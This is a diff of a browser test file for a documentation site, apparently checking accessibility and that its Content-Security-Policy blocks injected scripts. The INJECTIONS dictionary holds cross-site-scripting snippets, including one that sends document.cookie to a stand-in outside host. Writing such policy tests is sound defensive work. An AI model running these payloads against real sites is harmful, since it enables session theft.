@@ -41,7 +41,8 @@ SCHEMES: tuple[tuple[Literal["light", "dark"], str, dict[str, Any]], ...] = (
     ("dark", "slate", {"type": "rule", "values": ["color-contrast"]}),
 )
 """Scheme, the theme's name for it, what axe judges: only colours differ in the dark."""
-NAVIGATION = (".md-header", ".md-tabs", ".md-sidebar", ".md-footer", ".md-search", ".md-top", ".im-button", ".headerlink")
+NAVIGATION = (".md-header", ".md-tabs", ".md-sidebar", ".md-footer", ".md-search", ".md-top", ".headerlink")
+"""What nobody can use on paper."""
 STILL = "() => document.getAnimations().every(animation => animation.playState !== 'running')"
 
 
@@ -389,8 +390,8 @@ def test_an_answer_is_judged_and_its_reason_opens(context: BrowserContext, host:
 
 
 INJECTIONS = {
-    "script-src-attr": "box.innerHTML = '<img src=\"x\" onerror=\"window.hit = true\">'",
-    "script-src-elem": "const made = document.createElement('script'); made.text = 'window.hit = true'; box.append(made)",
+    "script-src-attr": 'box.innerHTML = \'<img src="x" onerror="window.hit = true">\'',
+    "script-src-elem": "const made = document.createElement('script'); made.text = 'hit = true'; box.append(made)",
     "script-src": "window.eval('window.hit = true')",
     "img-src": "const made = new Image(); made.src = 'http://other.invalid/x.png'; box.append(made)",
     "connect-src": "fetch('http://other.invalid/?' + document.cookie).catch(() => 0)",
